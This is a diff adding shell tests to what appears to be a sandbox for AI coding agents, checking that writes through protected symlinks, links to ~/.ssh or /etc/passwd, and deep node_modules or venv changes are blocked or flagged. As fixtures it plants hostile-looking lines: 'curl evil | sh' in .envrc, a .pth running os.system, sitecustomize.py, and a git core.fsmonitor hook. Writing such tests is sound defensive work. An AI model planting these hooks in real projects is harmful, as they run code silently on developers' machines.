@@ -372,6 +372,26 @@ protected_deep() {
 	    "$P/.gemini" "$P/.vscode" "$P/opencode.json" "$P/.crush.json"
 }
 
+# A protected file that is a link at the start (.envrc -> scripts/envrc,
+# .vscode/tasks.json -> ../config/tasks.json): its target in the project
+# is read-only in the jail as the file would be; a target outside the
+# project is not the jail's to write anyway.
+protected_link_target() {
+	mkdir -p "$P/scripts" "$P/config" "$P/.vscode"
+	echo 'export A=1' >"$P/scripts/envrc"
+	echo '{}' >"$P/config/tasks.json"
+	ln -s scripts/envrc "$P/.envrc"
+	ln -s ../config/tasks.json "$P/.vscode/tasks.json"
+	jrun -- sh -c "echo 'curl evil | sh' >>scripts/envrc;
+	    echo '{\"tasks\":[]}' >config/tasks.json; echo tried"
+	case $OUT in *tried*) ok ;; *) bad "protected_link_target: the writes did not run: $OUT" ;; esac
+	[ "$(cat "$P/scripts/envrc")" = 'export A=1' ] && ok ||
+	    bad "protected_link_target: the jail wrote the target of the protected link .envrc: $(cat "$P/scripts/envrc")"
+	[ "$(cat "$P/config/tasks.json")" = '{}' ] && ok ||
+	    bad "protected_link_target: the jail wrote the target of the protected link .vscode/tasks.json"
+	rm -rf "$P/scripts" "$P/config" "$P/.vscode" "$P/.envrc"
+}
+
 # A link made in the session where a protected file or a dir on its way
 # is (the reviewer's repro): every tool reads what the session put behind
 # it. Flagged with its target, never followed; other links are not.
@@ -1130,6 +1150,21 @@ name' && ln -s /dev/null lk/later && touch -h -d 2001-01-01 lk/later && echo lin
 	rm -rf "$P/lk" "$O"
 }
 
+# A link out of the project in the objects/ of a git dir the session made
+# (any file as its HEAD beside it) is told and moved out, as anywhere.
+objects_link() {
+	jrun -- sh -c "mkdir -p x/.git/objects/ab && echo junk >x/.git/HEAD &&
+	    ln -s '$HOME/.ssh' x/.git/objects/keys &&
+	    ln -s /etc/passwd x/.git/objects/ab/cd && echo linked"
+	case $OUT in *linked*) ok ;; *) bad "objects_link: the links were not made: $OUT" ;; esac
+	case $OUT in *"x/.git/objects/keys in a git dir was made a link in the session"*) ok ;;
+	*) bad "objects_link: a link out in a planted git dir's objects/ was not told: $OUT" ;; esac
+	case $OUT in *"x/.git/objects/ab/cd in a git dir was made a link"*) ok ;;
+	*) bad "objects_link: a link out one dir down in objects/ was not told: $OUT" ;; esac
+	[ -L "$P/x/.git/objects/keys" ] && bad "objects_link: the link was left in objects/" || ok
+	rm -rf "$P/x"
+}
+
 # A venv made in the session (python -m venv: bin/python3 ->
 # /usr/bin/python3, beside pyvenv.cfg) is said plainly, not flagged; a
 # link to ~/.ssh in the same bin dir, and one to /usr/bin/python3 in a
@@ -1204,6 +1239,39 @@ run_files() {
 	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
 	*) bad "run_files: show does not flag the changed activate" ;; esac
 	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/target" "$P/.gitignore"
+}
+
+# The same at any depth (a monorepo's web/node_modules/.bin, app/.venv/bin)
+# and in a venv's site-packages, where python runs every *.pth's import
+# lines and sitecustomize.py at each start: each one made or changed in
+# the session is flagged; a package installed there (its own dir, a .py
+# in it) is not.
+run_deep() {
+	SP=.venv/lib/python3.11/site-packages
+	printf 'node_modules/\n.venv/\n' >"$P/.gitignore"
+	mkdir -p "$P/web/node_modules/.bin" "$P/app/.venv/bin" "$P/$SP/pkg"
+	echo vite >"$P/web/node_modules/.bin/vite"
+	echo 'PATH=x' >"$P/app/.venv/bin/activate"
+	echo /somewhere >"$P/$SP/old.pth"
+	echo pass >"$P/$SP/pkg/__init__.py"
+	jrun -- sh -c "echo evil >>web/node_modules/.bin/vite &&
+	    echo evil >>app/.venv/bin/activate &&
+	    echo 'import os; os.system(\"evil\")' >$SP/evil.pth &&
+	    echo 'import os' >>$SP/old.pth && echo evil >$SP/sitecustomize.py &&
+	    echo x >$SP/pkg/more.py && mkdir $SP/newpkg && echo done"
+	case $OUT in *done*) ok ;; *) bad "run_deep: the changes were not made: $OUT" ;; esac
+	case $OUT in *"web/node_modules/.bin/vite was changed in the session"*"npm ci"*) ok ;;
+	*) bad "run_deep: a program changed in a node_modules/.bin below the top was not flagged: $OUT" ;; esac
+	case $OUT in *"app/.venv/bin/activate was changed in the session"*) ok ;;
+	*) bad "run_deep: a venv activate below the top changed was not flagged: $OUT" ;; esac
+	case $OUT in *"$SP/evil.pth was made in the session"*"python runs it at every start"*) ok ;;
+	*) bad "run_deep: a .pth made in a venv's site-packages was not flagged: $OUT" ;; esac
+	case $OUT in *"$SP/old.pth was changed in the session"*) ok ;;
+	*) bad "run_deep: a .pth changed in a venv's site-packages was not flagged: $OUT" ;; esac
+	case $OUT in *"$SP/sitecustomize.py was made in the session"*) ok ;;
+	*) bad "run_deep: a sitecustomize.py made in a venv's site-packages was not flagged: $OUT" ;; esac
+	case $OUT in *"$SP/pkg"*|*"$SP/newpkg"*) bad "run_deep: a package in site-packages was flagged: $OUT" ;; *) ok ;; esac
+	rm -rf "$P/web" "$P/app" "$P/.venv" "$P/.gitignore"
 }
 
 # A .git there before the session and unchanged (gitdir: ../gd/real),
@@ -1313,6 +1381,33 @@ scan_limit() {
 	rm -rf "$P/many" "$P"/d[0-9]* "$P/.mcp.json" "$P/.claude" "$P/0link"
 }
 
+# A dir filled past [jail] scan_limit (400 files, the limit 50) hides
+# nothing at its depth or above: the walk is breadth first and reads the
+# smaller dirs of a depth first, so a link out and a git dir with
+# core.fsmonitor made in a sibling dir are flagged and defused, and the
+# cut is still told.
+scan_bfs() {
+	C=$XDG_CONFIG_HOME/agentmux/config
+	cp "$C" "$T/config.saved"
+	printf '[jail]\nscan_limit = 50\n' >>"$C"
+	mkdir -p "$P/a"
+	i=0
+	while [ $i -lt 400 ]; do i=$((i + 1))
+		: >"$P/a/a-file-with-a-rather-long-name-to-fill-the-dir-$i"; done
+	jrun -- sh -c "mkdir z && ln -s /etc/passwd z/l && git init -q z &&
+	    git -C z config core.fsmonitor 'touch $MARK; false' && echo planted"
+	case $OUT in *planted*"holds more than 50 files and dirs"*) ok ;;
+	*) bad "scan_bfs: the cut scan was not told: $OUT" ;; esac
+	case $OUT in *"z/l is a link made or changed in the session that leads out of the project"*) ok ;;
+	*) bad "scan_bfs: a link out beside a filled dir was not flagged past the scan limit: $OUT" ;; esac
+	[ -z "$(git -C "$P/z" config core.fsmonitor)" ] && ok ||
+	    bad "scan_bfs: a git dir made beside a filled dir kept core.fsmonitor past the scan limit"
+	(cd "$P/z" && git status >/dev/null 2>&1)
+	pwned && bad "scan_bfs: git status on the host ran a planted core.fsmonitor" || ok
+	cp "$T/config.saved" "$C"
+	rm -rf "$P/a" "$P/z" "$MARK"
+}
+
 checks() {
 	MARK=$T/outside/PWNED
 	rm -f "$MARK"
@@ -1323,16 +1418,20 @@ checks() {
 	other_gitdir
 	dotgit_out
 	link_out
+	objects_link
 	venv_link
 	run_files
+	run_deep
 	dotgit_swap
 	scan_limit
+	scan_bfs
 	rebase_left
 	config_keys
 	modules
 	protected
 	protected_deep
 	protected_links
+	protected_link_target
 	rerere
 	untr
 	fsmn
